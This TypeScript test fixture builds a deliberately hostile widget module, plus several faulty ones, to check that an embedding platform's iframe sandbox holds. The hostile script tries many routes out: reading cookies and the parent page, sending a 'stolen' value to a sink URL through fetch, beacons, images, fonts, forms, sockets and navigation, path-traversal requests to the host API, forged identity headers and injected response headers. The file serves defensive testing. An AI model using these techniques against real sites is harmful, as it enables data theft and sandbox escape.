import type { ModuleSource } from "./write-module.ts";

const page = (script: string) =>
  `<!doctype html><html lang="en"><title>calm</title><body><p>…</p><script type="module" src="${script}"></script></body></html>`;

/** Everything a frame could try; writes what came of each as JSON into its own document. */
const attempts = (sink: string) => `
const secret = "stolen";
const sink = ${JSON.stringify(sink)};
const attempt = async (run) => {
  try { return String(await Promise.race([run(), new Promise((r) => setTimeout(r, 1500, "nothing happened"))])); }
  catch (error) { return "refused: " + error.name; }
};
const load = (element, into = document.body) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("blocked");
  into.append(element);
});
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
const submit = (action, target) => {
  const form = make("form", { action, target, method: "post" });
  form.append(make("input", { name: "data", value: secret }));
  document.body.append(form);
  form.submit();
  return "asked";
};
const found = {
  origin: self.origin,
  cookie: await attempt(() => document.cookie),
  storage: await attempt(() => localStorage.setItem("a", "b")),
  database: await attempt(() => new Promise((resolve, reject) => {
    const asked = indexedDB.open("a");
    asked.onsuccess = () => resolve("opened");
    asked.onerror = () => reject(asked.error);
  })),
  parentDocument: await attempt(() => parent.document.body.innerText),
  parentStorage: await attempt(() => parent.localStorage.length),
  frameElement: await attempt(() => String(frameElement)),
  hostApi: await attempt(() => fetch("/api/v1/graft/me", { credentials: "include" }).then((r) => r.status)),
  otherModule: await attempt(() => fetch("/api/v1/neighbour/who", { credentials: "include" }).then((r) => r.status)),
  ownApiDirectly: await attempt(() => fetch("/api/v1/hostile/who", { credentials: "include" }).then((r) => r.status)),
  serverAction: await attempt(() => fetch("/", { method: "POST", headers: { "next-action": "0" }, body: "[]" }).then((r) => r.status)),
  request: await attempt(() => new Promise((resolve, reject) => {
    const asked = new XMLHttpRequest();
    asked.onload = () => resolve(asked.status);
    asked.onerror = () => reject(new TypeError());
    asked.open("GET", "/api/v1/graft/users");
    asked.send();
  })),
  sinkFetch: await attempt(() => fetch(sink + "/fetch?" + secret, { mode: "no-cors" }).then(() => "sent")),
  sinkBeacon: await attempt(() => { navigator.sendBeacon(sink + "/beacon", secret); return "asked"; }),
  sinkImage: await attempt(() => load(make("img", { src: sink + "/image?" + secret }))),
  sinkScript: await attempt(() => load(make("script", { src: sink + "/script?" + secret }))),
  sinkStyle: await attempt(() => load(make("link", { rel: "stylesheet", href: sink + "/style?" + secret }))),
  sinkPrefetch: await attempt(() => load(make("link", { rel: "prefetch", href: sink + "/prefetch?" + secret }))),
  sinkFont: await attempt(() => new FontFace("f", "url(" + sink + "/font?" + secret + ")").load()),
  sinkFrame: await attempt(() => load(make("iframe", { src: sink + "/frame?" + secret }))),
  sinkVideo: await attempt(() => load(make("video", { src: sink + "/video?" + secret, autoplay: true }))),
  sinkObject: await attempt(() => load(make("object", { data: sink + "/object?" + secret }))),
  sinkSocket: await attempt(() => new Promise((resolve, reject) => {
    const socket = new WebSocket(sink.replace("http", "ws") + "/socket");
    socket.onopen = () => resolve("opened");
    socket.onerror = () => reject(new TypeError());
  })),
  sinkEvents: await attempt(() => new Promise((resolve, reject) => {
    const source = new EventSource(sink + "/events");
    source.onopen = () => resolve("opened");
    source.onerror = () => { source.close(); reject(new TypeError()); };
  })),
  sinkForm: await attempt(() => submit(sink + "/form", "_self")),
  sinkFormTop: await attempt(() => submit(sink + "/form-top", "_top")),
  sinkFormNew: await attempt(() => submit(sink + "/form-new", "_blank")),
  sinkWindow: await attempt(() => String(window.open(sink + "/window?" + secret))),
  sinkTop: await attempt(() => { if (top === self) return "alone"; top.location = sink + "/top?" + secret; return "asked"; }),
  hostForm: await attempt(() => submit("/api/v1/graft/groups", "_self")),
  worker: await attempt(() => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve("ran");
    worker.onerror = () => reject(new TypeError());
  })),
  serviceWorker: await attempt(() => navigator.serviceWorker.register("hostile.js").then(() => "registered")),
  evaluated: await attempt(() => new Function("return 'ran'")()),
};
`;

/** Through the door it has: the host fetches for it, from its own API and nothing else. */
const throughPort = (sink: string) => `
import { connect } from "/frames/sdk/v1.js";
${attempts(sink)}
const graft = await connect();
const ask = (path, init) => attempt(() => graft.fetch(path, init).then((r) => r.status));
found.port = {
  own: await attempt(() => graft.json("/v1/who").then((who) => who.name)),
  forged: await attempt(() => graft.json("/v1/who", { headers: { "graft-identity": "forged", cookie: "a=b", authorization: "Bearer x" } }).then((who) => who.name)),
};
for (const path of ["/../graft/users", "/v1/../../v1/graft/users", "/v1/../graft/users", "/v1/%2e%2e/graft/users",
  "//" + new URL(${JSON.stringify(sink)}).host + "/port", ${JSON.stringify(sink)} + "/port", "/v1/../neighbour/who", "/v2/../v1/neighbour/who", "\\\\..\\\\graft"]) {
  found.port[path.replace(${JSON.stringify(sink)}, "SINK").replace(new URL(${JSON.stringify(sink)}).host, "SINK")] = await ask(path);
}
graft.navigate("/../../admin/users");
graft.navigate(${JSON.stringify(sink)} + "/navigate");
graft.navigate("javascript:document.title='taken'");
document.body.innerHTML = '<pre id="found"></pre>';
document.getElementById("found").textContent = JSON.stringify(found);
graft.ready();
`;

const alone = (sink: string) => `
${attempts(sink)}
document.body.innerHTML = '<pre id="found"></pre>';
document.getElementById("found").textContent = JSON.stringify(found);
`;

export const who = `
import { defineModule } from "@graft/sdk/server";
export default defineModule({ routes: { "GET /v1/who": ({ identity }) => identity } });
`;

/** A widget that tries to get out, with an API whose answers try the same when opened directly. */
export function hostileModule(sink: string): ModuleSource {
  const html = `<!doctype html><title>calm</title><meta http-equiv="refresh" content="0;url=${sink}/refresh"><body>
    <script>document.title = "ran " + document.cookie; fetch("${sink}/page-script")</script>
    <script src="${sink}/page-script-src"></script><link rel="stylesheet" href="${sink}/page-style">
    <img src="${sink}/page-image" onerror="document.title = 'ran'"><iframe src="${sink}/page-frame"></iframe>
    <form method="post" action="${sink}/page-form"><button>Go</button></form></body>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${sink}/svg-image" width="9" height="9"/>
    <script>document.documentElement.setAttribute("data-ran", "yes"); fetch("${sink}/svg-script")</script></svg>`;
  const answer = (type: string, body: string) => `new Response(${JSON.stringify(body)}, { headers: {
    "content-type": "${type}", "set-cookie": "graft-session=taken; Path=/", "refresh": "0;url=${sink}/refresh-header",
    "link": "<${sink}/link-header>; rel=preload; as=script", "content-security-policy": "script-src * 'unsafe-inline'" } })`;
  return {
    manifest: {
      type: "widget",
      icon: "client/picture.svg",
      widgets: [
        { id: "taker", title: "Taker", entry: "client/taker.html" },
        { id: "leaver", title: "Leaver", entry: "client/leaver.html" },
      ],
    },
    server: `
      import { defineModule } from "@graft/sdk/server";
      export default defineModule({ routes: {
        "GET /v1/who": ({ identity }) => identity,
        "GET /v1/page": () => ${answer("text/html", html)},
        "GET /v1/picture": () => ${answer("image/svg+xml", svg)},
        "GET /v1/away": () => new Response(null, { status: 302, headers: { location: "${sink}/redirect" } }),
        "GET /v1/headers": ({ request }) => request.rawHeaders,
      } });`,
    files: {
      "client/taker.html": page("taker.js"),
      "client/taker.js": throughPort(sink),
      "client/leaver.html": page("leaver.js"),
      "client/leaver.js": `setTimeout(() => { location.href = ${JSON.stringify(`${sink}/leave?stolen`)}; }, 50);`,
      "client/alone.html": page("alone.js"),
      "client/alone.js": alone(sink),
      "client/picture.svg": svg,
    },
  };
}

/** Widgets that misbehave, and one beside them that works. */
export const clumsyModule: ModuleSource = {
  manifest: {
    type: "widget",
    widgets: ["works", "throws", "hangs", "recovers"].map((id) => ({
      id,
      title: id,
      entry: `client/${id}.html`,
    })),
  },
  server: `
    import { defineModule } from "@graft/sdk/server";
    let [asked, attempts] = [0, 0];
    export default defineModule({ routes: {
      "POST /v1/count": () => ({ asked: ++asked }),
      "POST /v1/attempts": () => ({ attempts: ++attempts }),
    } });`,
  files: Object.fromEntries(
    Object.entries({
      works: `const button = document.createElement("button"); button.textContent = "Count";
        button.onclick = async () => { button.textContent = "Counted " + (await graft.json("/v1/count", { method: "POST" })).asked; };
        document.body.replaceChildren(button); graft.ready();`,
      throws: `throw new Error("out of ink");`,
      hangs: `graft.ready(); setTimeout(() => { for (;;); }, 300);`,
      recovers: `const { attempts } = await graft.json("/v1/attempts", { method: "POST" }); if (attempts === 1) throw new Error("not yet");
        document.body.textContent = "Here after all"; graft.ready();`,
    }).flatMap(([id, script]) => [
      [`client/${id}.html`, page(`${id}.js`)],
      [
        `client/${id}.js`,
        `import { connect } from "/frames/sdk/v1.js";\nconst graft = await connect();\n${script}`,
      ],
    ]),
  ),
};
